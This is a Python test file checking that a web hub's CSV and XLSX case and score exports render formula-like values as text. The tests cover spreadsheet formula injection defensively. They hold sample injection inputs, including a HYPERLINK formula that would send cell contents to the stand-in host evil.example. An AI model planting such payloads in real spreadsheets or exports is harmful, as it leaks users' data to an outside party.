"""The hub's exports never hand a spreadsheet a live formula either (issue 15, item 5).

A box relays a case whose number a platform wrote as ``-2-3`` (a valid code that Excel reads
as the formula ``=-2-3``); the hub's case list downloads, CSV and XLSX, show it as text with a
leading ``'``, and no cell of any hub workbook is a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from hallwatch.hubsim import SimBox, feed
from standard.records import LOCAL_TZ
from tests.hubkit import NOW, START, add_users, open_dashboard, sign_in, write_hub_folder
from web.hub import create_app

EVIL_CASES = ("-2-3", "-1+A1")


def test_the_hub_case_export_shows_formula_like_cells_as_text(tmp_path):
    write_hub_folder(tmp_path)
    dashboard = open_dashboard(tmp_path)
    try:
        box = SimBox("440605-01", "440605")
        records = list(box.history(START, 5, 1, today=NOW.date()))
        at = dt.datetime.combine(NOW.date(), dt.time(9), LOCAL_TZ)
        for number in EVIL_CASES:
            case = {"case_no": number, "item": box.items[0]}
            records += [box._event(case, "申请", at), box._event(case, "受理", at)]
        feed(dashboard.data.store, box, records)
        passwords = add_users(dashboard)
        app = create_app(dashboard, {"TESTING": True}, announce=lambda *first: None)
        chief = sign_in(app, "chief", passwords["chief"]).client

        answer = chief.get("/cases.csv?state=all")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
        numbers = {row[1] for row in rows[1:]}
        assert {"'" + n for n in EVIL_CASES} <= numbers
        assert not numbers & set(EVIL_CASES)

        book = load_workbook(io.BytesIO(chief.get("/cases.xlsx?state=all").data))
        sheet = book["办件"]
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert {"'" + n for n in EVIL_CASES} <= {cell.value for cell in cells}
        assert not [cell.coordinate for line in sheet.iter_rows() for cell in line
                    if cell.data_type == "f"]  # text, never a formula
    finally:
        dashboard.data.store.close()


def test_the_hub_score_workbook_shows_a_formula_like_unit_name_as_text(tmp_path):
    """A department's name comes from a catalogue imported from a province's workbook; one
    written ``=HYPERLINK(...)`` is text in the score workbook, as in every other export."""
    from hub.scoring import compute_month

    write_hub_folder(tmp_path)
    dashboard = open_dashboard(tmp_path)
    try:
        box = SimBox("440605-01", "440605")
        feed(dashboard.data.store, box, box.history(START, 40, 2, today=NOW.date()))
        results = compute_month(dashboard.data, dashboard.scoring, "2026-10")
        evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
        target = next(r for r in results if r.kind == "dept")
        target.name = evil
        dashboard.scorebook.save("2026-10", results, dashboard.scoring,
                                 dashboard.scoring_text, user="chief")
        passwords = add_users(dashboard)
        app = create_app(dashboard, {"TESTING": True}, announce=lambda *first: None)
        chief = sign_in(app, "chief", passwords["chief"]).client
        answer = chief.get("/scores/2026-10.xlsx")
        assert answer.status_code == 200
        book = load_workbook(io.BytesIO(answer.data))
        cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
        assert "'" + evil in {cell.value for cell in cells}
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    finally:
        dashboard.data.store.close()
